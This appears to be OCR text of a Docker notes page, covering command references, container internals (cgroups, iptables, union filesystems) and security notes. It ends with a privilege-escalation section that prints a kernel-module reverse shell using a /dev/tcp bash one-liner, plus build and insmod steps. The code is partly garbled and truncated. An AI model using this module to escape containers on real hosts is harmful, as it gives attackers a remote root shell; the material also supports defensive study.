Skip to content


Quick Reference

Manage images

  • download an image from DockerHub:
    docker image pull <image name>
  • list all local images:
    docker image ls Chapter 5
  • build an image with a tag (note the dot!):
    docker image build -t <image name>
  • publish an image to dockerhub:
    docker image push <image name>
  • tag an image - either alias an exisiting image or apply a :tag to one:
    docker image tag <image id> <tag name>

Manage Containers

  • run a container from an image, publishing the specified ports:
    docker container run -p <public port>:<container port> <image name>
  • list all containers, even the stopped ones:
    docker container ls -a
  • stop a running container:
    docker container stop <container id>
  • restart a stopped container:
    docker container start <container id>
  • remove a stopped container:
    docker container rm <container id>
  • remove all stopped containers:
    docker container prune
  • run a container with interactive terminal:
    docker container run -it  <image name>• run a container detached (or in a daemon like way):
    docker container run -d  <image name>
  • run a command in a container:
    docker container exec -it <container id> <command>
  • special form of the above, runs a bash shell, connected to your local terminal (your distro needs to have bash, alpine will require /bin/sh):
    docker container exec -it <container id> bash
  • Follow the log (STDIN/System.out) of the container:
    docker container logs -f <container id>
  • Take a snapshot image of a container:
    docker container commit -a "author" <container id> <image name>
  • Pause: docker pause
  • Unpause: docker unpause

Manage your (local) Virtual Machine

  • Find the IP address of your VirtualMachine, required for Docker Toolbox users only:
    docker-machine ip

Manage Networks

  • list all networks (bridge/host/none/etc.):docker network ls
  • create a network using the bridge driver:
    docker network create <network name>
  • Inspect the complete network:
    docket network inspect <network name>
  • Link two containers (this is legacy):
    docker container run ... --link <container-name-to-link-with> <image-name>
  • New way of linking two containers (using Docker Compose is easier):
    sudo docker network create mynetwork
    sudo docker container run ... --network mynetwork <image-name>Manage Volumes

  • list all volumes:
    docker volume ls
  • delete all volumes that are not currently mounted to a container:
    docker volume prune
  • inspect a volume (can find out the mount point, the location of the volume on the host system)
    docker volume inspect <volume name>
  • remove a volume:
    docker volume rm <volume name>

Docker Compose

  • process the default docker-compose.yaml file, starting any containers as required. If containers are already running they are ignored, meaning this command also serves as a "redeploy":
    docker-compose up
  • run containers in the detached state. Note the order of the command line arguments!:
    docker-compose up -d
  • follow the log for the specified service. Omit the -f to tail the log:
    docker-compose logs -f <service name>
  • stop all the containers (services) listed in the default compose file:
    docker-compose down
  • Validation: docker-compose config
  • Images: docker-compose images
  • Processes: docker-compose top
  • Pause: docker-compose pause
  • Unpause: docker-compose unpauseManage a Swarm

  • Switch the machine into Swarm mode. We didn't cover how to stop swarm mode: docker swarm leave --force:
    docker swarm init (--advertise-addr <ip address>)
  • Start a service in the swarm. The args are largely the same as those you will have used in docker container run:
    docker service create <args>
  • Create a network suitable for using in a swarm:
    docker network create --driver overlay <name>
  • List all services:
    docker service ls
  • List all nodes in the swarm:
    docker node ls
  • Follow the log for the service. This feature is a new feature in Docker and may not be available on your version (especially if using Linux Repository Packages):
    docker service logs -f <service name>• List full details of the service - in particular the node on which it is running and any previous failed containers from the service:
    docker service ps <service name>
  • Get a join token to enable a new node to connect to the swarm, either as a worker or manager:
    docker swarm join-token <worker|manager>

Manage Stacks

  • list all stacks on this swarm:
    docker stack ls
  • deploy (or re-deploy) a stack based on a standardcompose file:
    docker stack deploy -c <compose file> <stack name>
  • delete a stack and its corresponding services/networks/etc:
    docker stack rm <stack name>


  • Disk usage
    docker system df
  • Events
    docker system events
  • System wide information
    docker system info
  • Remove unused ata
    docker system prune


  •Container statistics
    docker stats <id>


  • History
    • Chroot circa 1982
    • FreeBSD Jails circa 2000
    • Solaris Zones circa 2004
    • Meiosys - MetaClusters with Checkpoint/Restore 2004-05
    •Linux OpenVZ circa 2005 (not in mainstream Linux)
    • AIX WPARs circa 2007
    • LXC circa 2008
    • Systemd-nspawn circa 2010-2013
    • Docker circa 2013
      • built on LXC
      • moved to libcontainer (March 2014)
      • appC (CoreOS) announced (December 2014)
      • Open Containers standard for convergence with Docker Announced (June 2015)
      • moved to runC (OCF compliant) (July 2015)
  • Namespaces
  • cgroups
    • allow you to do accounting on resources used by processes
      • a little bit of access control on device nodes
      • and other things such as freezing groups of processes
    • Managing with Systemd
      • Set ControlGroupAttribute
      • ControlGroupAttribute=memory.swappiness 70
      • systemctl set-property <group> CPUShares=512
      • systemctl show <group>
    • Internals:
      • mkdir/sys/fs/cgroup/memory/somegroup/subcgroup
      • Move process: echo $PID > /sys/fs/cgroup/.../tasks
    • cgroups consist of one hierarchy (tree) per resource (cpu, memory, …). can create sub groups for each hierarchy.
      cpu                      memory
      ├── batch                ├── 109
      │   ├── hadoop           ├── 88 <
      │   │   ├── 88 <         ├── 25
      │   │   └── 109          ├── 26
      └── realtime             └── databases
          ├── nginx                ├── 1008
          │   ├── 25               └── 524
          │   └── 26
          ├── postgres
          │   ├── 524
          └── redis
              └── 1008
      • memory
        • accounting
          • file pages: loaded from disk (can be discarded since it's anyway in the disk)
          • anonymous pages: memory that does not correspond to anything on disk
          • 2 pools for all pages:
            • Active
            • Inactive pages
        • limits
          • Hard limits: If the group goes above its hard limit, the group gets killed
          • Soft limits: not enforced. except when the system starts to run out of memory. The more a process goes over its soft limit, the higher the chance pages get reclaimed for its group
          • Kind of memories the limit can be applied:
            • physical memory
            • kernel memory: to avoid processes abusing the kernel to allocate memory
            • total memory• oom-notifier - mechanism to give control to a user program to handle a group going over its limits by freezing the processes in the group and notifying user space
          • Overhead - Each time the kernel gives or takes a page to or from a process, counters are updated.
        • CPU cgroup
          • allows to set weights - not limits (On an idle host a container with low shares will still be able to use 100% of the CPU)
        • CPUSet cgroup
          • Bind group to specific CPU
          • For:
            • Real Time applications
            • NUMA systems with localized memory per CPU
        • BlkIO cgroup
          • Measure & Limit amount of blckIO by group
        • net_cls and net_prio cgroup
          • traffic control
        • Devices cgroup
          • Controls which group can read/write access devices.• Usually containers access: /dev/{tty,zero,random,null}
          • /dev/net/tun if you want to do anything with vpn’s inside a container without polluting the host
          • /dev/fuse custom filesystems in a container
          • /dev/kvm to allow virtual machines to run inside a container
          • /dev/dri & /dev/video for GPU access in containers - (see NVIDIA/nvidia-docker).
        • Freezer cgroup
          • Freeze a whole group without sending SIGSTOP/SIGCONT to the group
      • notifications
  • IPTables (networking)
    • Virtual switches in the linux kernel
    • Linux Bridge is a kernel module
    • Administered using the brctl
    • Network shaping and bandwidth control for Linux containers: tc
      • Demo using two hosts at:
      • Linux bridges & IPtable rules: brctl show sudo iptables -nvL
      • port has been opened for each port exposed: ss -an | grep LISTEN
      • userland docker-proxy process: ps -Af | grepproxy
      • Memory usage by these proxies: ps -o pid,%cpu,%mem,sz,vsz,cmd -A --sort -%mem | grep proxy
      • Name resolution: docker exec host2 cat /etc/resolv.conf
      • DNS process injected into the container: docker exec -it host2 netstat -an
      •exposing additional ports: forward packets from port 8001 on your host to port 8000 on the container: iptables -t nat -A DOCKER -p tcp --dport 8001 -j DNAT --to-destination ${CONTAINER_IP}:8000
      • cgroup setup: sudo systemd-cgls
  • Union File Systems (UnionFS) - AUFS, btrfs, vfs, and devicemapper
    • Docker engine prepares the rootfs & uses chroot for the container filesystem isolation (similar to LXC)
    • Storage plugins:
      • OverlayFS (CoreOS)
      • AUFS (Ubuntu)
      • device mapper (RHEL)
      • btrfs (next-gen RHEL)
      • ZFS (next-gen Ubuntu releases)
    • Union File Systems provide the following features for storage:
      • Layering
      • Copy-On-Write
        • significantly speed up the preparation of the rootfs
        • LXC would create a full copy of FileSystem when creating a container
      • Caching
      • Diffing
  • Container Runtimes:

Security Considerations


  • Move dynamic steps to down to max utilization of cacheSecurity References

Privilege Escalation

  • Capabilities: capsh --print
    • SYS_MODULE capability
      • ip addr
      • The call_usermodehelper function is used to create user mode processes from kernel space.
      • The call_usermodehelper function takes three parameters: argv, envp and UMH_WAIT_EXEC
        • The arguments to the program are stored in argv.
        • The environment variables are stored in envp.
        • UMH_WAIT_EXEC causes the kernel module to wait till the loader executes the program.
      • Reference
        • Invoking user-space applications from the kernel:
        • Usermode Helper API:
          // reverse-shell.c
          #include <linux/kmod.h>#include <linux/module.h>
          MODULE_DESCRIPTION("LKM reverse shell module");
          char* argv[] = {"/bin/bash","-c","bash -i >& /dev/tcp/ 0>&1", NULL};
          static char* envp[] = {"PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin", NULL };
          static int __init reverse_shell_init(void) {
              return call_usermodehelper(argv[0], argv, envp, UMH_WAIT_EXEC);
          static void __exit reverse_shell_exit(void) {
              printk(KERN_INFO "Exiting\n");
          module_init(reverse_shell_init); module_exit(reverse_shell_exit);
          # Makefile
          #   make
          #   insmod reverse-shell.ko
          obj-m +=reverse-shell.o
              make -C /lib/modules/$(shell uname -r)/build M=$(PWD) modules
              make -C /lib/modules/$(shelluname -r)/build M=$(PWD) clean